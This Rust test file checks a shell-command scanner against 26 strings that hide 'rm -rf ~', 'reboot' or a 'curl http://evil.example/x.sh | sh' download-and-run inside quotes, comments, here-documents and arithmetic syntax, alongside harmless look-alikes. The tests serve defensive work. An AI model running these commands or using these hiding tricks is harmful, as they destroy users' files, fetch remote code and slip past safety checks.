//! Text of which a scanner and a shell could read different things: what a shell would run is seen, or the text is
//! said to be unreadable.

use super::*;

/// Each hides `rm -rf ~` from whoever takes the other for a quote, a comment or a here-document.
const HIDDEN: [&str; 26] = [
    "echo hi \\\n# it's\nrm -rf ~\n# that's\n",
    "(echo $(#)'\nrm -rf ~\n#'\n) ; : $(#)'\n)\n) #'\n",
    "echo $(:)# ; rm -rf ~",
    "echo a$(:)# ; rm -rf ~",
    "echo <(:)# ; rm -rf ~",
    "echo `:`# ; rm -rf ~",
    "echo ${x}# ; rm -rf ~",
    "echo \"$\\\n(rm -rf ~)\"",
    "cat <<E\n$\\\n(rm -rf ~)\nE\n",
    "x=\"rm -rf $\\\nHOME\"; $x",
    "cat <<EOF\r\nEOF\r\nrm -rf ~\n",
    "cat <<EOF\nEOF\r\n: '\nEOF\nrm -rf ~\n#'\n",
    "cat <<EO\\\nF\nEOF\nrm -rf ~\n",
    "cat <<$'EOF'\nEOF\nrm -rf ~\n",
    "cat <<\"E\\\"F\"\nE\"F\nrm -rf ~\n#\"\n",
    "f1234567890() { rm -rf ~; }; f1234567890",
    "é() { rm -rf ~; }; é",
    "f\\\noo() { rm -rf ~; }; foo",
    "for i1234567890 in ~; do rm -rf $i1234567890; done",
    // A shell without arithmetic commands runs them, as many `/bin/sh` are.
    "((rm -rf ~))",
    "((\nreboot\n))",
    "((curl http://evil.example/x.sh | sh\n))",
    "set -- rm -rf ~; \"$@\"",
    "set rm -rf ~; $*",
    "set -e -- rm -rf ~; $1 $2 $3",
    "f() { \"$@\"; }; f rm -rf ~",
];

/// The same shapes around nothing.
const HARMLESS: [&str; 13] = [
    "echo hi \\\n  there # it's\nls\n",
    "echo $(date)# ; ls",
    "echo a$(basename x)b",
    "cat <<EOF\r\ntext\r\nEOF\r\nls\n",
    "cat <<'EOF'\ntext $HOME\nEOF\nls\n",
    "cat <<-\\EOF\n\ttext\n\tEOF\nls\n",
    "f1234567890() { ls; }; f1234567890",
    "for i1234567890 in a b; do echo $i1234567890; done",
    "((i++)); ((a = b / 2)); (( x > 5 && y < 3 )); ((n))",
    "((\n  total += count * 2\n))",
    "(( (a + b) * c ))",
    "set -euo pipefail; set -- a b; echo \"$@\"",
    "make \\\n  -j2 \\\n  all\n",
];

#[test]
fn what_a_shell_would_run_is_seen() {
    for text in HIDDEN {
        let verdict = judge(text);
        assert_ne!(verdict.decision, Decision::Allow, "{text:?}");
    }
}

#[test]
fn the_same_around_nothing_is_allowed() {
    for text in HARMLESS {
        let verdict = judge(text);
        assert_eq!(verdict.decision, Decision::Allow, "{text:?}: {verdict:#?}");
    }
}
